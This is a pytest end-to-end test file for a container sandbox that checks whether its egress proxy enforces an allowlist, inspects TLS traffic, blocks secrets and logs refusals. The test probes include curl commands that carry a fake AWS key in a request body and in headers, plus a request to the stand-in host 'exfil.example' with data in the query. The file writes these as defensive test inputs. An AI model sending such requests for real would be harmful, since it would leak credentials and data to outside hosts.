"""Egress through the real pipelock sidecar: allowlist, DLP, SSRF, no direct route, SSE.

These need the pinned pipelock image (`make setup` builds it from its release source where
no registry answers); under CI a missing image fails them.
"""

from __future__ import annotations

import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import docker
import pytest
from pydantic import SecretStr

from remotebottle.backend.docker import lab
from remotebottle.backend.docker.backend import DockerBottleBackend, LaunchOptions
from remotebottle.backend.spec import BottleSpec, Command, Secretish
from remotebottle.demo import fake_aws_key, probes
from remotebottle.ops.stream import stream_output
from tests.e2e.conftest import FAKE_API_URL, FakeApi, finish, rbottle, run_to_end

pytestmark = pytest.mark.e2e


def test_rbottle_demo_shows_every_probe_behaving(
    pipelock_image: str, agent_image: str, tmp_path: Path
) -> None:
    """`rbottle demo` as a user runs it: a table with every probe behaving, exit 0."""
    code, out, err = finish(rbottle(tmp_path, "demo", env={"COLUMNS": "250"}), timeout=600)
    assert code == 0, err[-2000:]
    names = [probe.name for probe in probes()]
    rows = [line for line in out.splitlines() if any(name in line for name in names)]
    assert len(rows) == len(names) == 9, out
    assert all("PASS" in row and "FAIL" not in row for row in rows), out
    assert "9/9 probes behaved as a bottle should" in err


def test_claude_code_turn_through_the_egress_proxy(
    docker_client: docker.DockerClient,
    pipelock_image: str,
    fake_api: Callable[..., FakeApi],
) -> None:
    api = fake_api(reply="Streamed through pipelock.")
    spec = BottleSpec(
        identity="egress-t1abc",
        agent="egress",
        bottle="b",
        command=Command(mode="print", prompt="hi"),
        egress_allowlist=("fake-api",),
        env={
            "ANTHROPIC_BASE_URL": Secretish("literal", SecretStr(FAKE_API_URL)),
            "ANTHROPIC_API_KEY": Secretish("literal", SecretStr("placeholder-not-a-key")),
        },
    )
    backend = DockerBottleBackend(docker_client)
    options = LaunchOptions(tty=False, before_agent_start=api.join)
    out = io.BytesIO()
    plan = lab.trusting_private_upstreams(backend.prepare(spec), ["fake-api"])
    with backend.launch(plan, options) as bottle:
        inspect = docker_client.api.inspect_container(bottle.agent_container)
        code = stream_output(
            docker_client,
            bottle.agent_container,
            stdout=out,
            on_attached=lambda: backend.release(bottle),
        )
    assert code == 0, out.getvalue().decode(errors="replace")[-2000:]
    assert "Streamed through pipelock." in out.getvalue().decode()
    assert list(inspect["NetworkSettings"]["Networks"]) == [f"rb-{spec.identity}-internal"]
    assert any(r["path"].startswith("/v1/messages") for r in api.requests())


def test_claude_code_turn_over_https_is_intercepted(
    docker_client: docker.DockerClient,
    pipelock_image: str,
    fake_api: Callable[..., FakeApi],
) -> None:
    """HTTPS to an allowed host: the agent's CONNECT is intercepted with the bottle's own CA
    (the agent trusts it, pipelock trusts the upstream's), and the streamed turn arrives."""
    api = fake_api(reply="Over TLS through pipelock.", tls=True)
    spec = BottleSpec(
        identity="egress-t2abc",
        agent="egress",
        bottle="b",
        command=Command(mode="print", prompt="hi"),
        egress_allowlist=("fake-api",),
        env={
            "ANTHROPIC_BASE_URL": Secretish("literal", SecretStr(api.url)),
            "ANTHROPIC_API_KEY": Secretish("literal", SecretStr("placeholder-not-a-key")),
        },
    )
    assert api.tls
    backend = DockerBottleBackend(docker_client)
    options = LaunchOptions(
        tty=False,
        before_agent_start=api.join,
        upstream_ca_certs=(api.tls.ca_pem,),
    )
    plan = lab.trusting_private_upstreams(backend.prepare(spec), ["fake-api"])
    code, out, _ = run_to_end(backend, plan, options)
    assert code == 0, out.getvalue().decode(errors="replace")[-2000:]
    assert "Over TLS through pipelock." in out.getvalue().decode()
    assert any(r["path"].startswith("/v1/messages") for r in api.requests())


def test_secrets_inside_https_are_refused(
    docker_client: docker.DockerClient,
    pipelock_image: str,
    fake_api: Callable[..., FakeApi],
) -> None:
    """DLP sees inside TLS: a key in an HTTPS body or in any header to an allowed host is
    refused and never reaches the upstream, while clean requests pass, many a minute."""
    api = fake_api(tls=True)
    assert api.tls
    spec = BottleSpec(
        identity="egress-t3abc",
        agent="egress",
        bottle="b",
        command=Command(mode="exec", argv=("sleep", "infinity")),
        egress_allowlist=("fake-api",),
    )
    backend = DockerBottleBackend(docker_client)
    options = LaunchOptions(
        tty=False,
        before_agent_start=api.join,
        upstream_ca_certs=(api.tls.ca_pem,),
    )
    key = fake_aws_key()
    curl = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-m", "20"]
    url = f"{api.url}/v1/models"
    probes = {
        "clean": [*curl, url],
        "body": [*curl, "-X", "POST", "--data", f"aws_access_key_id={key}", url],
        "header": [*curl, "-H", f"Authorization: AWS4-HMAC-SHA256 Credential={key}/x", url],
        "custom header": [*curl, "-H", f"X-Trace: {key}", url],
    }
    plan = lab.trusting_private_upstreams(backend.prepare(spec), ["fake-api"])
    with backend.launch(plan, options) as bottle:
        backend.release(bottle)
        agent = docker_client.containers.get(bottle.agent_container)
        got = {}
        for name, argv in probes.items():
            stdout, _ = agent.exec_run(argv, user="1000", demux=True).output
            got[name] = (stdout or b"").decode()[-3:]
        seen = api.requests()
        # A package install fetches hundreds of files a minute from one host; pipelock's
        # default per-host limit (60 a minute) would refuse it midway.
        burst = f"for i in $(seq 150); do {' '.join(curl)} {url}; echo; done | sort | uniq -c"
        stdout, _ = agent.exec_run(["sh", "-c", burst], user="1000", demux=True).output
    assert got == {"clean": "200", "body": "403", "header": "403", "custom header": "403"}
    assert len(seen) == 1, seen
    assert key not in json.dumps(seen)
    assert (stdout or b"").decode().split() == ["150", "200"]


def test_what_the_proxies_refused_is_in_the_bottles_audit_log(
    pipelock_image: str, agent_image: str, write_manifest: Callable[..., Path]
) -> None:
    """`rbottle start` as a user runs it: at the session's end every refusal is copied into
    the bottle's audit log, with scheme, host and path only (never a query string)."""
    manifest = {
        "bottles": {"b": {"egress": {"allowlist": ["pypi.org"]}}},
        "agents": {"worker": {"bottle": "b"}},
    }
    project = write_manifest(manifest).parent
    probe = "curl -s -o /dev/null -m 10 'http://exfil.example/upload?data=the-query-part'; true"
    code, _, err = finish(rbottle(project, "start", "worker", "--yes", "--", "sh", "-c", probe))
    assert code == 0, err
    identity = err.split("rbottle resume ")[1].split()[0]
    log = Path(os.environ["REMOTEBOTTLE_HOME"]) / "state" / identity / "audit.jsonl"
    entries = [json.loads(line) for line in log.read_text().splitlines()]
    refused = [e for e in entries if e["kind"] == "refused"]
    assert refused, entries
    assert refused[0]["by"] == "egress proxy"
    assert refused[0]["where"] == "http://exfil.example/upload"
    assert "allowlist" in refused[0]["reason"]
    assert "the-query-part" not in log.read_text()
